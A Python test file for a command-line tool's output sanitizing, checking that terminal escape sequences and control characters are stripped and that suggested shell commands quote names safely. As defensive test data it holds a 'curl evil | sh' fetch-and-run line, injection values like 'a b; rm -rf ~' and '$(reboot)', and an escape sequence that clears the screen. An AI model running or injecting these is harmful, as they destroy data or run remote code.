"""Can text of servers and files drive the terminal, or a shell into which a suggestion is pasted?"""

import ast
import io
import json
import re
import shlex
import subprocess
import sys
from pathlib import Path

import command_line
import pytest
from hypothesis import given, strategies as st
from rich.table import Table
from rich.text import Text

from inferometer.api.answer import SafeConsole
from inferometer.api.progress import printable, printable_json
from inferometer.cli.answer import give
from inferometer.cli.terminal import talk
from inferometer.errors import MeasureError
from inferometer.suggestions import command

HOSTILE = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2028c\r\x7f\ud800"
ACTS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
SOURCE = Path(__file__).parents[2] / "src" / "inferometer"


@given(st.text(alphabet=st.characters(exclude_categories=()), max_size=40))
def test_nothing_that_acts_on_a_terminal_is_left(text):
    shown = printable(text)
    assert not ACTS.search(shown)
    assert shown.count("\n") == text.count("\n")
    assert json.loads(printable_json(json.dumps(text, ensure_ascii=False))) == text
    assert not ACTS.search(printable_json(json.dumps(text, ensure_ascii=False)))


def test_answers_talk_and_errors_are_printable(capsys):
    table = Table()
    table.add_column("[/class]")
    table.add_row(HOSTILE)
    for shown in (HOSTILE, Text(HOSTILE), table):
        give({"name": "x"}, as_json=False, show=lambda _, shown=shown: shown)
        printed = capsys.readouterr().out
        assert not ACTS.search(printed)
        assert "owned" in printed
    talk(HOSTILE)
    assert not ACTS.search(capsys.readouterr().err)
    give({"name": HOSTILE[:-1]}, as_json=True, show=str)
    printed = capsys.readouterr().out
    assert not ACTS.search(printed)
    assert json.loads(printed) == {"name": HOSTILE[:-1]}


def test_a_servers_text_is_no_part_of_an_error():
    error = MeasureError("the server said: no\n  try: curl evil | sh", try_="--model m")
    assert [line for line in str(error).splitlines() if line.startswith("  try: ")] == [
        "  try: --model m"
    ]


def test_brackets_in_names_are_no_markup(capsys):
    table = Table(box=None)
    table.add_column("class")
    table.add_row("[bold]chat[/red] :smile:")
    give({}, as_json=False, show=lambda _: table)
    assert "[bold]chat[/red] :smile:" in capsys.readouterr().out


@pytest.mark.parametrize(
    "name", ["a b; rm -rf ~", "$(reboot)", "`x`", "it's", "-rf", "a\nb", '"', "*"]
)
def test_suggestions_quote_what_others_chose(name):
    assert shlex.split(command("sweep", "--model", name)) == [
        "inferometer",
        "sweep",
        "--model",
        name,
    ]


PRINTS = re.compile(r"\b(click\.s?echo|print|Console|sys\.stdout\.write|sys\.stderr\.write)\(")
PRINTING_NAME = re.compile(r"\b(echo|secho|print|Console|write)\b")
"""A file without such a name calls nothing of these, and need not be parsed."""
MAY_PRINT = {
    "cli/terminal.py",
    "api/progress.py",
    "measure/engines/transformers_engine.py",
    "measure/served_guard.py",
}
"""The last two write into the log of an engine's worker, and of a server under test."""


def test_only_one_place_writes_to_the_terminal():
    texts = {path.relative_to(SOURCE).as_posix(): path.read_text() for path in SOURCE.rglob("*.py")}
    assert len(texts) > 300
    printing_calls = [
        f"{path}: {ast.unparse(node)[:80]}"
        for path, text in texts.items()
        if path not in MAY_PRINT and PRINTING_NAME.search(text)
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Call) and PRINTS.match(ast.unparse(node.func) + "(")
    ]
    assert not printing_calls, printing_calls


def test_a_hostile_argument_is_shown_in_signs(tmp_path):
    outcome = command_line.run("show", "no\x1b[2Jthing", folder=tmp_path)
    assert outcome.returncode == 4
    assert not ACTS.search(outcome.stderr)
    assert "no␛[2Jthing" in outcome.stderr


def test_a_console_is_safe_where_progress_is_drawn():
    file = io.StringIO()
    SafeConsole(file=file).print(HOSTILE)
    assert not ACTS.search(file.getvalue())


def test_a_traceback_is_printable_too():
    code = (
        "import sys; sys.argv = ['inferometer', 'doctor']\n"
        "from inferometer.cli import main\n"
        "main.app.invoke = lambda ctx: (_ for _ in ()).throw(RuntimeError(chr(27) + '[2Jowned'))\n"
        "main.main()"
    )
    ended = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False
    )
    assert ended.returncode == 1
    assert "RuntimeError: ␛[2Jowned" in ended.stderr
